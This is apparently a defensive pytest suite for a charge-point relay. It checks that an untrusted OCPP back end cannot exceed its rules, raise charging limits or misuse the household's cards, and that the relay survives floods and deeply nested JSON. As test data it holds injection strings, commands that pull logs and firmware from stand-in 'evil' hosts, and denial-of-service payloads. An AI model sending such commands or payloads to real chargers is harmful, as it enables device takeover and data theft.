"""A back end may do what its rules say and nothing else, whatever it sends; its texts are foreign text."""

from collections.abc import AsyncIterator
from dataclasses import replace
import json
from typing import Any

import pytest

from custom_components.plug_control.central_system.stations.settings import CentralSystemSettings
from custom_components.plug_control.model.events import BackEndCommand, BackEndSetAside
from custom_components.plug_control.model.tag import IdTag
from custom_components.plug_control.relay.requests import PASSED_ON, REFUSALS
from custom_components.plug_control.relay.settings import CommandKind, Rules, SessionChoice
from simulator.scripted import ScriptedChargePoint
from tests.central_system.conftest import CARD, tag_status

from .conftest import Lab, back_end
from .scripted import Payload, Refuse, ScriptedBackEnd
from .test_house import Home, begin, end, plugged_in
from .times import until

ALL = Rules(commands=frozenset(CommandKind))
FOREIGN = {
    "formula": '=HYPERLINK("http://evil/")',
    "HTML": "<script>alert(1)</script>",
    "secret": "wss://user:s3cret@evil/ocpp",
    "control characters": "line\nbreak\x1b[2J\u202e",
    "long": "x" * 150_000,
}
LARGE = {
    "deep": '[2,"1","Reset",' + '{"a":' * 100_000 + "1" + "}" * 100_000 + "]",
    "open": "[" * 200_000,
    "deep profile": f'[2,"1","SetChargingProfile",{{"csChargingProfiles":{"[" * 500}{"]" * 500}}}]',
    "long id": f'[2,"{"1" * 500_000}","Reset",{{"type":"Wet"}}]',
    "many keys": '[2,"1","Reset",{' + ",".join(f'"k{n}":{n}' for n in range(50_000)) + "}]",
    "long number": f'[2,"1","Reset",{{"type":{"9" * 500_000}}}]',
}


@pytest.fixture
async def home() -> AsyncIterator[Home]:
    settings = CentralSystemSettings(host="127.0.0.1", port=0)
    async with Home(settings=settings) as made:
        made.add()
        made.cards(CARD)
        yield made
        if made.relay is not None:
            await made.relay.stop()


def profile(limit: Any, unit: str = "A", **changed: Any) -> Payload:
    return {
        "connectorId": 1,
        "csChargingProfiles": {
            "chargingProfileId": 1,
            "stackLevel": 0,
            "chargingProfilePurpose": "TxDefaultProfile",
            "chargingProfileKind": "Absolute",
            "chargingSchedule": {
                "chargingRateUnit": unit,
                "chargingSchedulePeriod": [{"startPeriod": 0, "limit": limit}],
            },
        }
        | changed,
    }


ATTEMPTS: dict[str, Payload] = {
    "CancelReservation": {"reservationId": 1},
    "ChangeAvailability": {"connectorId": 0, "type": "Inoperative"},
    "ChangeConfiguration": {"key": "AuthorizationKey", "value": "0123456789abcdef"},
    "DataTransfer": {"vendorId": "evil", "data": "x"},
    "DeleteCertificate": {"certificateHashData": {}},
    "ExtendedTriggerMessage": {"requestedMessage": "LogStatusNotification"},
    "GetConfiguration": {"key": ["AuthorizationKey", "ServerURL"]},
    "GetDiagnostics": {"location": "ftp://evil/"},
    "GetLog": {"logType": "SecurityLog", "requestId": 1, "log": {"remoteLocation": "ftp://evil/"}},
    "InstallCertificate": {"certificateType": "CentralSystemRootCertificate", "certificate": "x"},
    "RemoteStartTransaction": {"connectorId": 1, "idTag": "GUEST"},
    "RemoteStopTransaction": {"transactionId": 9001},
    "ReserveNow": {
        "connectorId": 1,
        "expiryDate": "2030-01-01T00:00:00Z",
        "idTag": "GUEST",
        "reservationId": 1,
    },
    "Reset": {"type": "Hard"},
    "SendLocalList": {"listVersion": 99, "updateType": "Full", "localAuthorizationList": []},
    "SetChargingProfile": profile(0),
    "SignedUpdateFirmware": {"requestId": 1, "firmware": {"location": "http://evil/"}},
    "TriggerMessage": {"requestedMessage": "MeterValues", "connectorId": 1},
    "UnlockConnector": {"connectorId": 1},
    "UpdateFirmware": {"location": "http://evil/", "retrieveDate": "2026-01-01T00:00:00Z"},
}


def asked(charger: ScriptedChargePoint) -> dict[str, int]:
    """Return how often the charger was asked for what."""
    actions = {*REFUSALS, *PASSED_ON, *ATTEMPTS, "GetConfiguration"}
    return {each: len(charger.received(each)) for each in actions}


async def test_a_back_end_that_only_hears_reaches_no_charger(
    home: Home, scripted: ScriptedBackEnd
) -> None:
    """Each action of the standard and its security extension, with a charge of the house under way."""
    home.relays(scripted)
    charger = await plugged_in(home)
    started = await begin(home, charger)
    await home.until_delivered()
    before = asked(charger)
    for action in sorted({*REFUSALS, *PASSED_ON, *ATTEMPTS}):
        await scripted.ask(action, ATTEMPTS.get(action, {}))
    assert asked(charger) == before
    transaction = home.connector().transaction
    assert transaction is not None
    assert transaction.transaction_id == started["transactionId"]
    assert not home.connector().limit.ceilings


@pytest.mark.parametrize("allowed", sorted({*PASSED_ON, ""}))
async def test_an_action_that_is_allowed_by_name_allows_no_other(
    lab: Lab, scripted: ScriptedBackEnd, allowed: str
) -> None:
    lab.add()
    lab.use(scripted, rules=Rules(actions=frozenset({allowed})))
    await lab.until_connected()
    for action, payload in ATTEMPTS.items():
        await scripted.ask(action, payload)
    assert {command[0] for command in lab.port.commands} <= {allowed}
    assert not lab.port.ceilings


# --- limits ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(("limit", "effective_a"), [(32, 10), (1e7, 10), (6, 6)])
async def test_no_profile_raises_the_users_limit(
    home: Home, scripted: ScriptedBackEnd, limit: float, effective_a: float
) -> None:
    home.relays(scripted, rules=ALL)
    charger = await plugged_in(home)
    charger.auto_reply("SetChargingProfile", {"status": "Accepted"})
    await home.central_system.limits.set_limit("CP-1", 1, 10)
    answer = await scripted.ask("SetChargingProfile", profile(limit))
    assert answer[2] == {"status": "Accepted"}
    schedule = charger.received("SetChargingProfile")[-1]["csChargingProfiles"]
    assert f"'limit': {effective_a}" in str(schedule).replace(".0", "")


@pytest.mark.parametrize(
    "told",
    [
        profile(-1),
        profile("NaN"),
        profile(1e308),
        profile(None),
        profile([32]),
        profile(16) | {"connectorId": 99},
        profile(16) | {"connectorId": -1},
        profile(16, stackLevel=10**9),
        profile(16, chargingProfileId=2**80),
        profile(16, chargingProfilePurpose="Everything"),
        profile(16, transactionId=4711),
        {"connectorId": 1, "csChargingProfiles": [profile(16)]},
        {},
    ],
)
async def test_profiles_that_make_no_sense_limit_nothing(
    lab: Lab, scripted: ScriptedBackEnd, told: Payload
) -> None:
    lab.add()
    lab.use(scripted, rules=ALL)
    await lab.until_connected()
    answer = await scripted.ask("SetChargingProfile", told)
    assert answer[2] == {"status": "Rejected"}
    assert not lab.port.ceilings


async def test_what_profiles_take_of_memory_is_bounded(lab: Lab, scripted: ScriptedBackEnd) -> None:
    lab.add()
    lab.use(scripted, rules=ALL)
    await lab.until_connected()
    periods = [{"startPeriod": each, "limit": 16.0} for each in range(1400)]
    schedule = {"chargingRateUnit": "A", "chargingSchedulePeriod": periods}
    answers = [
        await scripted.ask(
            "SetChargingProfile",
            profile(16, chargingProfileId=number, stackLevel=number, chargingSchedule=schedule),
        )
        for number in range(4)
    ]
    assert [each[2]["status"] for each in answers] == ["Accepted"] * 2 + ["Rejected"] * 2
    assert len(json.dumps(lab.relay.memory())) < 200_000


# --- the house's cards and transactions -----------------------------------------------------------


@pytest.mark.parametrize("id_tag", [CARD, CARD.lower(), f" {CARD} ", "HomeAssistant"])
async def test_a_back_end_starts_no_charge_with_a_card_of_the_house(
    home: Home, scripted: ScriptedBackEnd, id_tag: str
) -> None:
    """Its holder would pay, and the back end would hear of that card's sessions from then on."""
    home.relays(scripted, rules=replace(ALL, sessions=SessionChoice.OWN))
    charger = await plugged_in(home)
    charger.auto_reply("RemoteStartTransaction", {"status": "Accepted"})
    answer = await scripted.ask("RemoteStartTransaction", {"connectorId": 1, "idTag": id_tag})
    assert answer[2] == {"status": "Rejected"}
    assert not charger.received("RemoteStartTransaction")
    started = await begin(home, charger)
    await end(home, charger, started["transactionId"], 2000)
    assert not home.central_system.ledger.outbox.queue("BE-1").messages


async def test_a_registered_card_that_is_assigned_to_the_back_end_is_its_to_start(
    home: Home, scripted: ScriptedBackEnd
) -> None:
    home.relays(scripted, rules=replace(ALL, own_id_tags=frozenset({CARD})))
    charger = await plugged_in(home)
    charger.auto_reply("RemoteStartTransaction", {"status": "Accepted"})
    answer = await scripted.ask("RemoteStartTransaction", {"connectorId": 1, "idTag": CARD})
    assert answer[2] == {"status": "Accepted"}


@pytest.mark.parametrize("group", ["FAMILY", "family", CARD])
async def test_a_card_of_a_back_end_joins_no_group_of_the_house(
    home: Home, scripted: ScriptedBackEnd, group: str
) -> None:
    """A charger lets a card of the same parentIdTag stop a charge without asking (R19)."""
    home.relays(scripted, rules=Rules(asks_cards=True))
    home.central_system.set_id_tags([IdTag(id_tag=CARD, name="Card", group="FAMILY")])
    scripted.replies["Authorize"] = lambda _, told: {
        "idTagInfo": {
            "status": "Accepted",
            "parentIdTag": group if told["idTag"] == "THIEF" else "FLEET",
        }
    }
    charger = await home.started_up()
    await until(lambda: home.relay and home.relay.state("BE-1").links["CP-1"].connected)  # type: ignore[union-attr]
    answer = await charger.call("Authorize", {"idTag": "THIEF"})
    assert answer["idTagInfo"] == {"status": "Accepted"}
    answer = await charger.call("Authorize", {"idTag": "GUEST"})
    assert answer["idTagInfo"] == {"status": "Accepted", "parentIdTag": "FLEET"}
    assert tag_status(await charger.call("Authorize", {"idTag": CARD})) == "Accepted"


async def test_a_back_end_stops_only_what_it_has_numbered_itself(
    lab: Lab, scripted: ScriptedBackEnd
) -> None:
    """Our own ids, those of another back end and of another charge point, and ids given twice: all are foreign to it."""
    async with ScriptedBackEnd() as other:
        lab.add()
        lab.add("CP-2")
        rules = replace(ALL, sessions=SessionChoice.OWN, own_id_tags=frozenset({"FLEET"}))
        lab.relay.update_settings(
            [back_end(scripted, "BE-1", rules=rules), back_end(other, "BE-2", rules=ALL)]
        )
        house, elsewhere = lab.start("HOUSE"), lab.start("FLEET", "CP-2")
        await lab.until_delivered("BE-1")
        await lab.until_delivered("BE-2")
        await lab.until_connected("CP-1")
        foreign = [house + 100, elsewhere + 100, house, 9001, 9002, -1, 0, 2**31, "9001", None]
        for transaction_id in foreign:
            answer = await scripted.ask("RemoteStopTransaction", {"transactionId": transaction_id})
            assert answer[2] == {"status": "Rejected"}
            told = profile(0, transactionId=transaction_id, chargingProfilePurpose="TxProfile")
            answer = await scripted.ask("SetChargingProfile", told, "CP-1")
            assert answer[2]["status"] == "Rejected"
        assert not lab.port.commands
        assert not lab.port.ceilings


# --- texts ----------------------------------------------------------------------------------------


def assert_harmless(told: str) -> None:
    assert len(told) <= 512
    assert told.isprintable()
    assert "s3cret" not in told


@pytest.mark.parametrize("foreign", FOREIGN.values(), ids=FOREIGN)
async def test_what_a_back_end_says_is_bounded_printable_and_without_secrets(
    lab: Lab, scripted: ScriptedBackEnd, foreign: str
) -> None:
    def refuse(*_: object) -> Payload:
        raise Refuse(foreign[:300], foreign)

    info = {"status": foreign, "parentIdTag": foreign, "expiryDate": foreign}
    lab.add()
    lab.use(scripted, rules=replace(ALL, asks_cards=True))
    scripted.replies["StopTransaction"] = refuse
    scripted.replies["StartTransaction"] = lambda *_: {"transactionId": 9001, "idTagInfo": info}
    scripted.replies["Authorize"] = lambda *_: {"idTagInfo": info}
    await lab.until_connected()
    decision = lab.relay.asks("CP-1", "GUEST")
    assert decision is not None
    answer = await decision
    assert answer is not None
    assert answer.status == "Invalid"
    session_id = lab.charge()
    await until(lambda: lab.of_kind(BackEndSetAside))
    assert_harmless(lab.of_kind(BackEndSetAside)[0].error)
    assert_harmless(lab.link().last_error or "")
    relayed = lab.outbox.relayed("BE-1", session_id)
    assert relayed is not None
    assert_harmless(relayed.note or "")
    for _, _, frame in lab.relay.frames("BE-1", "CP-1"):
        assert len(frame) <= 1000
        assert frame.isprintable()
        assert "s3cret" not in frame
    assert len(json.dumps(lab.relay.memory())) < 1000


@pytest.mark.parametrize("foreign", FOREIGN.values(), ids=FOREIGN)
async def test_what_a_back_end_asks_with_is_bounded_and_printable(
    lab: Lab, scripted: ScriptedBackEnd, foreign: str
) -> None:
    lab.add()
    lab.use(scripted, rules=ALL)
    await lab.until_connected()
    for action in ("GetConfiguration", "ChangeConfiguration", "Reset", "RemoteStartTransaction"):
        payload = {"key": [foreign] if action == "GetConfiguration" else foreign, "type": foreign}
        answer = await scripted.ask(action, payload | {"value": foreign, "idTag": foreign * 2})
        assert answer[0] == 3
        assert len(json.dumps(answer)) < 1000
    answer = await scripted.ask(foreign[:200], {})
    assert answer[2] in ("NotImplemented", "FormationViolation")
    for command in lab.port.commands:
        assert command[0] == "GetConfiguration"
        assert len(str(command)) < 200
    for event in lab.of_kind(BackEndCommand):
        assert_harmless(event.action)
        assert_harmless(event.outcome)


# --- floods ---------------------------------------------------------------------------------------


def frame_of(message_id: str, action: str, payload: Any) -> bytes:
    """Return the websocket frame of a CALL, as a server sends it."""
    text = json.dumps([2, message_id, action, payload]).encode()
    length = len(text)
    head = bytes([length]) if length < 126 else b"\x7e" + length.to_bytes(2, "big")
    return b"\x81" + head + text


@pytest.mark.parametrize("action", ["GetConfiguration", "Reset"])
async def test_a_flood_of_commands_neither_reaches_the_charger_nor_holds_up_the_house(
    home: Home, scripted: ScriptedBackEnd, action: str
) -> None:
    home.relays(scripted, rules=ALL)
    charger = await plugged_in(home)
    charger.auto_reply("Reset", {"status": "Rejected"})
    await until(lambda: home.relay and home.relay.state("BE-1").links["CP-1"].connected)  # type: ignore[union-attr]
    before = sum(asked(charger).values())
    payload = {"type": "Soft", "requestedMessage": "MeterValues", "vendorId": "x"}
    frames = b"".join(frame_of(f"f{n}", action, payload) for n in range(600))
    scripted.sockets["CP-1"].transport.write(frames)
    started = await begin(home, charger)
    await end(home, charger, started["transactionId"], 2000)
    assert len(await home.central_system.ledger.sessions()) == 1
    await home.until_delivered()
    assert [each["meterStop"] for each in scripted.stops[9001]] == [2000]
    assert sum(asked(charger).values()) - before <= 21
    assert len([each for each in home.events if isinstance(each, BackEndCommand)]) <= 22


@pytest.mark.parametrize("text", LARGE.values(), ids=LARGE)
async def test_deep_and_large_messages_cost_that_message_only(
    lab: Lab, scripted: ScriptedBackEnd, text: str
) -> None:
    lab.add()
    lab.use(scripted, rules=ALL)
    await lab.until_connected()
    await scripted.sockets["CP-1"].send(text)
    answer = await scripted.ask("TriggerMessage", {"requestedMessage": "Heartbeat"})
    assert answer[2] == {"status": "Accepted"}
    assert not lab.port.commands
    lab.charge()
    await lab.until_delivered()
    assert len(scripted.requests) == 1
